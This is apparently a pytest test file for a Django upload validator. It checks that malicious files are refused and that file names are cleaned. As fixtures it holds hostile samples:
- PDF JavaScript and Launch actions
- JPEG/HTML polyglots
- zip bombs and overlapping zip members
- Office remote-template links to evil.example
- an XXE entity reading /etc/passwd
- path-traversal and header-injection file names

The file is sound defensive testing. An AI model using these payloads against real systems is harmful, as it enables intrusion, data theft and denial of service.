"""Uploads: which files are taken, which are refused and with which words, and what they are called afterwards."""

import hashlib
import io
import struct
import unicodedata
import zipfile

import pytest
from django import forms
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile, TemporaryUploadedFile
from hypothesis import given, settings
from hypothesis import strategies as st

from wegwijzer.ui.forms import DocumentField
from wegwijzer.ui.inspection.names import clean_name
from wegwijzer.ui.tests.samples import (
    HONEST,
    TYPES,
    archive,
    content_types,
    jpeg,
    object_stream,
    office,
    open_document,
    pdf,
    png,
    relations,
)


def taken(name, content, **options):
    return DocumentField(**options).clean(SimpleUploadedFile(name, content, content_type="x/whatever-the-browser-says"))


def said(name, content, **options):
    with pytest.raises(ValidationError) as caught:
        taken(name, content, **options)
    return caught.value.messages[0]


ACTIVE = "Dit bestand bevat een programma (macro of script). Bewaar het zonder, of als gewone PDF."
BOMB = "Dit bestand wordt bij het uitpakken veel te groot. Bewaar het opnieuw, of als PDF."
DAMAGED = "Dit bestand is beschadigd of niet volledig. Bewaar het opnieuw en probeer nog eens."
FETCHES = "Dit bestand haalt bij het openen iets op van elders. Bewaar het als PDF."


def two_kinds(kind):
    return f"In dit bestand zit een tweede bestand verstopt. Bewaar het opnieuw als {kind}."


def mismatch(kind):
    return f"Dit is geen {kind}-bestand, al heet het zo. Bewaar het opnieuw als {kind}."


@pytest.mark.parametrize("name", HONEST)
def test_honest_file_is_taken_with_its_kind_and_checksum(name):
    file = taken(name, HONEST[name])
    assert file.clean_name == name
    assert file.kind == {"jpg": "jpeg"}.get(name.rpartition(".")[2], name.rpartition(".")[2])
    assert file.content_type.partition("/")[0] in ("application", "image", "text")
    assert file.checksum == hashlib.sha256(HONEST[name]).hexdigest()
    assert file.marks == frozenset()
    assert file.read() == HONEST[name], "the file stands at its beginning"


def test_large_file_on_disk_is_looked_at_too():
    file = TemporaryUploadedFile("verslag.pdf", "application/pdf", len(pdf()), None)
    file.write(pdf())
    file.seek(0)
    assert DocumentField().clean(file).checksum == hashlib.sha256(pdf()).hexdigest()
    assert file.read() == pdf()


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        pytest.param("leeg.pdf", b"", "Dit bestand is leeg. Kies een ander bestand.", id="U1"),
        pytest.param("pagina.pdf", b"<!DOCTYPE html><script>alert(1)</script>", mismatch("PDF"), id="U6"),
        pytest.param("p.pdf", pdf().replace(b"%\xe2", b"%<script>alert(1)</script>\n%\xe2"), two_kinds("PDF"), id="U7"),
        pytest.param("p.pdf", pdf() + b"<html><body>x</body></html>", two_kinds("PDF"), id="U7 behind the end"),
        pytest.param("p.pdf", pdf() + archive({"a.txt": "a"}), two_kinds("PDF"), id="U8"),
        pytest.param(
            "p.pdf", pdf(catalogue=b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"), ACTIVE, id="U9"
        ),
        pytest.param("p.pdf", pdf(b"4 0 obj <</S/J#61vaScript/JS(x)>> endobj\n"), ACTIVE, id="U9 in other letters"),
        pytest.param("p.pdf", pdf(b"4 0 obj <</S /Launch /F (cmd.exe)>> endobj\n"), ACTIVE, id="U9 launch"),
        pytest.param("p.pdf", pdf(object_stream(b"4 0 <</S /JavaScript /JS (x)>>")), ACTIVE, id="U9 packed"),
        pytest.param(
            "p.pdf",
            pdf(object_stream(b"4 0 <</S /JavaScript>>", b"/Type /O#62jStm /Filter /FlateDecode")),
            ACTIVE,
            id="U9 packed, in other letters",
        ),
        pytest.param(
            "p.pdf",
            pdf(object_stream(b"x", b"/Type /ObjStm /Filter [/ASCIIHexDecode /FlateDecode]")),
            DAMAGED,
            id="packed in a way that nobody uses",
        ),
        pytest.param("p.pdf", pdf(object_stream(b"\0" * 70_000_000)), BOMB, id="PDF that unpacks to 70 MB"),
        pytest.param("p.pdf", pdf()[: len(pdf()) // 2], DAMAGED, id="U13"),
        pytest.param("p.pdf", pdf()[:-6], DAMAGED, id="U13 without its last line"),
        pytest.param("p.pdf", pdf() + pdf()[:-20] * 9, DAMAGED, id="U13 after an earlier end"),
        pytest.param("p.png", b"<svg xmlns='http://www.w3.org/2000/svg'/>", mismatch("PNG-beeld"), id="U14 as PNG"),
        pytest.param(
            "groot.png",
            png(50_000, 50_000),
            "Dit beeld is te groot: hoogstens 50 miljoen beeldpunten. Verklein het.",
            id="U16",
        ),
        pytest.param(
            "groot.jpg",
            jpeg(60_000, 60_000),
            "Dit beeld is te groot: hoogstens 50 miljoen beeldpunten. Verklein het.",
            id="U16 JPEG",
        ),
        pytest.param("half.png", png()[:-4], DAMAGED, id="half a PNG"),
        pytest.param("half.jpg", jpeg()[:-2], DAMAGED, id="half a JPEG"),
        pytest.param("niets.png", png(0, 7), DAMAGED, id="PNG of no width"),
        pytest.param(
            "script.jpg",
            jpeg(first=b"\xff\xe0/*" + b"\0" * 0x2F28 + b"\xff\xfe\0\x1c*/=1;alert(document.domain)/*"),
            two_kinds("JPEG-beeld"),
            id="U17",
        ),
        pytest.param("foto.jpg", jpeg() + b"<script>alert(1)</script>", two_kinds("JPEG-beeld"), id="U17 behind"),
        pytest.param("foto.jpg", jpeg() + archive({"a": "a"}), two_kinds("JPEG-beeld"), id="JPEG and archive"),
        pytest.param("verslag.docx", b"MZ\x90\0\x03" + b"\0" * 300, mismatch("Word"), id="U22"),
        pytest.param("verslag.docx", office("xlsx"), mismatch("Word"), id="Excel that is called Word"),
        pytest.param("verslag.docx", archive({"a.txt": "a"}), mismatch("Word"), id="archive that is called Word"),
        pytest.param("verslag.odt", open_document("spreadsheet"), mismatch("OpenDocument-tekst"), id="ods as odt"),
        pytest.param("lijst.txt", b"MZ\x90\0", mismatch("tekst"), id="program that is called text"),
        pytest.param("lijst.txt", b"\xef\xbb\xbf \n<html>", mismatch("tekst"), id="page that is called text"),
        pytest.param("lijst.csv", "a;b".encode("utf-16"), mismatch("CSV"), id="UTF-16"),
    ],
)
def test_file_that_is_not_what_it_says_is_refused(name, content, message):
    assert said(name, content) == message


@pytest.mark.parametrize(
    "name", ["plan.svg", "pagina.html", "setup.exe", "nota.docm", "nota.doc", "lijst.zip", "uitnodiging.ics", "verslag"]
)
def test_kind_that_is_not_allowed_says_which_are(name):
    """U14, U15"""
    assert said(name, b"<svg/>").startswith("Dit soort bestand kan hier niet. Kies een van deze soorten: PDF, Word, ")


def test_form_may_allow_fewer_kinds():
    message = "Dit soort bestand kan hier niet. Kies een van deze soorten: PDF."
    assert said("nota.docx", office(), kinds=("pdf",)) == message
    assert DocumentField(kinds=("pdf", "jpeg")).widget.attrs["accept"] == ".pdf,.jpg,.jpeg"


def test_file_one_byte_over_the_limit_is_refused(settings):
    """U2"""
    settings.DOCUMENT_MAX_BYTES = 1024 * 1024
    full = pdf().ljust(1024 * 1024, b"\n")
    assert taken("net.pdf", full).kind == "pdf"
    message = "Dit bestand is te groot: hoogstens 1 MB. Maak het kleiner of splits het."
    assert said("over.pdf", full + b"\n") == message


@pytest.mark.parametrize(
    ("content", "mark"),
    [
        pytest.param(pdf(b"4 0 obj << /Type /EmbeddedFile >> endobj\n"), "embedded", id="U10"),
        pytest.param(pdf(object_stream(b"4 0 << /Type /EmbeddedFile >>")), "embedded", id="U10 packed"),
        pytest.param(pdf().replace(b"/Size 4", b"/Size 4 /Encrypt 4 0 R"), "encrypted", id="U11"),
        pytest.param(pdf(catalogue=b"/OpenAction [3 0 R /Fit]"), "opens", id="page to start on"),
    ],
)
def test_pdf_that_needs_a_word_is_taken_and_marked(content, mark):
    assert taken("verslag.pdf", content).marks == {mark}


def test_pdf_whose_tables_lead_in_a_circle_is_not_followed():
    """U12"""
    assert taken("verslag.pdf", pdf().replace(b"/Size 4", b"/Size 4 /Prev 15")).kind == "pdf"


@pytest.mark.parametrize(
    "content",
    [
        pytest.param(pdf(b"stream\n" * 30_000), id="one word thousands of times"),
        pytest.param(pdf(b"<</Type/ObjStm/Filter/FlateDecode>>stream\n" * 6_000), id="packed objects without end"),
    ],
)
def test_pdf_that_is_made_to_keep_us_busy_is_given_up(content):
    """Looked at without end, every one of its words would cost 64 kB of reading."""
    assert said("verslag.pdf", content) == DAMAGED


def test_file_that_virus_scanners_are_tested_with_is_refused():
    """U23; written in two parts, so that no scanner takes this file for it."""
    harmless = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}" + b"$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
    assert said("lijst.txt", harmless).startswith("Een virusscanner zou dit bestand tegenhouden.")


ENTITIES = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><sst>&b;</sst>'
FETCHING = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><document>&a;</document>'
MACRO_TYPE = "application/vnd.ms-word.document.macroEnabled.main+xml"


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        pytest.param("n.docx", lambda: office(**{"word/media/a.bin": b"\0" * 20_000_000}), BOMB, id="U18"),
        pytest.param(
            "n.docx", lambda: office(**{f"word/{n}.bin": b"\0" * 4_000_000 for n in range(70)}), BOMB, id="U18 many"
        ),
        pytest.param(
            "n.docx", lambda: office(**{f"word/{n}.xml": "<a/>" for n in range(3001)}), BOMB, id="U18 3,001 parts"
        ),
        pytest.param("n.docx", office(**{"word/nested.zip": archive({"a.zip": b"PK"})}), ACTIVE, id="U19"),
        pytest.param(
            "n.docx",
            office(**{"word/_rels/settings.xml.rels": relations("attachedTemplate", "https://evil.example/t.dotm")}),
            FETCHES,
            id="U20 template",
        ),
        pytest.param(
            "n.docx",
            office(**{"word/_rels/document.xml.rels": relations("oleObject", "mhtml:https://evil.example/x!x")}),
            FETCHES,
            id="U20 object",
        ),
        pytest.param(
            "n.docx",
            office(**{"word/_rels/settings.xml.rels": relations("attachedTemplate", "&#104;ttps://evil.example/")}),
            FETCHES,
            id="U20 in other letters",
        ),
        pytest.param(
            "n.docx",
            office(
                **{
                    "word/_rels/settings.xml.rels": (
                        "<?xml version='1.0' encoding='utf-16'?>"
                        + relations("attachedTemplate", r"file://\\server\deel\t.dotm")
                    ).encode("utf-16")
                }
            ),
            FETCHES,
            id="U20 in UTF-16, from a share",
        ),
        pytest.param("n.docx", office(**{"word/document.xml": FETCHING}), ACTIVE, id="U20 entity of a file"),
        pytest.param("n.xlsx", office("xlsx", **{"xl/sharedStrings.xml": ENTITIES}), ACTIVE, id="U21"),
        pytest.param(
            "n.xlsx",
            office("xlsx", **{"xl/sharedStrings.xml": ENTITIES.encode("utf-16")}),
            ACTIVE,
            id="U21 in UTF-16",
        ),
        pytest.param(
            "n.xlsx",
            office("xlsx", **{"xl/sharedStrings.xml": f"<!--{'x' * 70_000}-->{ENTITIES}"}),
            DAMAGED,
            id="U21 behind a long comment",
        ),
        pytest.param("n.docx", office(**{"word/vbaProject.bin": b"x"}), ACTIVE, id="macro"),
        pytest.param("n.docx", office(**{"word/VBAPROJECT.BIN": b"x"}), ACTIVE, id="macro in capitals"),
        pytest.param(
            "n.docx", office(**{TYPES: content_types("word/document.xml", MACRO_TYPE)}), ACTIVE, id="macro by type"
        ),
        pytest.param("n.xlsx", office("xlsx", **{"xl/macrosheets/sheet1.xml": "<a/>"}), ACTIVE, id="macro sheet"),
        pytest.param("n.docx", office(**{"word/activeX/activeX1.xml": "<a/>"}), ACTIVE, id="control"),
        pytest.param("n.odt", open_document(**{"Basic/Standard/Module1.xml": "<a/>"}), ACTIVE, id="LibreOffice macro"),
        pytest.param("n.docx", office(**{"word/embeddings/x.exe": b"MZ"}), ACTIVE, id="program inside"),
        pytest.param("n.docx", office(**{"../../x.xml": "<a/>"}), DAMAGED, id="part that climbs out"),
        pytest.param("n.docx", office(**{"word/kapot.xml": "<a"}), DAMAGED, id="broken XML"),
        pytest.param("n.docx", office()[:-30], DAMAGED, id="half an archive"),
        pytest.param("n.docx", office() + b"x", two_kinds("Word"), id="something behind the archive"),
        pytest.param("n.docx", b"PK\x03\x04" + office(), two_kinds("Word"), id="something before the archive"),
        pytest.param(
            "n.docx",
            office(**{"word/_rels/x.rels": f"<Relationships>{' ' * 2_200_000}</Relationships>"}),
            BOMB,
            id="part that is too long to look at",
        ),
    ],
)
def test_document_that_does_more_than_be_read_is_refused(name, content, message):
    assert said(name, content() if callable(content) else content) == message  # the large ones are made when asked


def test_members_that_share_their_bytes_are_refused():
    """U18: the trick by which ten megabytes unpack to terabytes (overlapping members)."""
    honest = office(**{"word/a.xml": "<a/>" * 1000, "word/b.xml": "<a/>" * 1000})
    with zipfile.ZipFile(io.BytesIO(honest)) as read:
        offsets = {member.filename: member.header_offset for member in read.infolist()}
    table = honest.rfind(b"PK\x01\x02")
    overlapping = bytearray(honest)
    struct.pack_into("<I", overlapping, table + 42, offsets["word/a.xml"])
    assert said("n.docx", bytes(overlapping)) == BOMB


def test_second_table_of_contents_is_refused():
    """A program that reads large archives (zip64) would be led to another table than one that does not."""
    file = io.BytesIO(office())
    with zipfile.ZipFile(file, "a") as archived:
        member = zipfile.ZipInfo("word/last.xml")
        member.comment = b"PK\x06\x07" + struct.pack("<IQI", 0, 0, 1)
        archived.writestr(member, "<a/>")
    assert said("n.docx", file.getvalue()) == two_kinds("Word")


def test_link_that_somebody_clicks_on_and_template_on_this_computer_are_allowed():
    links = relations("hyperlink", "https://www.olen.be/")
    template = relations("attachedTemplate", "file:///C:\\Sjablonen\\brief.dotx")
    parts = {"word/_rels/document.xml.rels": links, "word/_rels/settings.xml.rels": template}
    assert taken("nota.docx", office(**parts)).kind == "docx"


def test_document_with_others_inside_is_marked():
    assert taken("nota.docx", office(**{"word/embeddings/lijst.xlsx": b"PK"})).marks == {"embedded"}


def test_locked_open_document_is_marked():
    manifest = "<manifest><file-entry><encryption-data/></file-entry></manifest>"
    assert taken("nota.odt", open_document(**{"META-INF/manifest.xml": manifest})).marks == {"encrypted"}


@pytest.mark.parametrize(
    ("given_name", "kept"),
    [
        pytest.param("../../etc/passwd.pdf", "passwd.pdf", id="P1"),
        pytest.param("..\\..\\x.pdf", "x.pdf", id="P2"),
        pytest.param("/var/www/x.pdf", "x.pdf", id="P3"),
        pytest.param("C:\\Users\\iemand\\x.pdf", "x.pdf", id="P3 Windows"),
        pytest.param("CON.pdf", "_CON.pdf", id="P4"),
        pytest.param("lpt1.tar.pdf", "_lpt1.tar.pdf", id="P4 with a point"),
        pytest.param("a.pdf\0.exe", "a.pdf.exe", id="P5"),
        pytest.param("a" * 300 + ".pdf", "a" * 146 + ".pdf", id="P6"),
        pytest.param(".htaccess", "htaccess", id="P7"),
        pytest.param("verslag\u202efdp.exe", "verslagfdp.exe", id="P8"),
        pytest.param('"; filename=x.html', "_; filename=x.html", id="P9"),
        pytest.param(" .. . ", "", id="P10"),
        pytest.param(" . .pdf", "pdf", id="P10 with an extension only"),
        pytest.param("Re\u0301union.PDF", "R\u00e9union.pdf", id="P11"),
        pytest.param("verslag\r\nX: y.pdf", "verslag X_ y.pdf", id="H8"),
        pytest.param("Verslag beheerscomité 14 sep 2015.pdf", "Verslag beheerscomité 14 sep 2015.pdf", id="honest"),
    ],
)
def test_name_is_cleaned(given_name, kept):
    assert clean_name(given_name) == kept


def test_name_of_spaces_and_points_is_refused():
    """P10"""
    assert said(" .. . ", pdf()) == "Geef het bestand een naam, bijvoorbeeld verslag.pdf."


@pytest.mark.parametrize("name", ["a.pdf\0.exe", "verslag\u202efdp.exe", ".htaccess", '"; filename=x.html'])
def test_name_that_hides_another_kind_is_refused(name):
    """P5, P7, P8, P9"""
    assert said(name, pdf()).startswith("Dit soort bestand kan hier niet.")


def test_same_name_twice_is_kept_twice():
    """P12"""
    first, second = taken("verslag.pdf", pdf()), taken("verslag.pdf", pdf(b"% tweede\n"))
    assert first.clean_name == second.clean_name
    assert first.checksum != second.checksum


@settings(max_examples=1000)
@given(st.text(max_size=400))
def test_cleaned_name_is_short_visible_one_line_and_stays_the_same(text):
    name = clean_name(text)
    assert clean_name(name) == name
    assert len(name) <= 150
    assert not set(name) & set('/\\<>:"|?*')
    assert not {unicodedata.category(character) for character in name} & {"Cc", "Cf", "Cs", "Zl", "Zp"}
    assert not name.startswith((".", " "))


@settings(max_examples=300)
@given(st.sampled_from(sorted(HONEST)), st.data())
def test_damaged_file_is_refused_in_words_or_taken_but_never_an_error(name, data):
    """Every honest sample with a few bytes changed, cut or doubled."""
    content = bytearray(HONEST[name])
    for at in data.draw(st.lists(st.integers(0, len(content) - 1), max_size=4)):
        content[at] = data.draw(st.integers(0, 255))
    cut = data.draw(st.integers(1, len(content)))
    try:
        message = "" if taken(name, bytes(content[:cut])) else "nothing"
    except ValidationError as error:
        message = error.messages[0]
    assert message == "" or message.endswith(".")


class DocumentForm(forms.Form):
    title = forms.CharField()
    file = DocumentField()


def test_form_without_a_file_asks_for_one():
    assert DocumentForm({"title": "x"}, {}).errors == {"file": ["Kies een bestand."]}
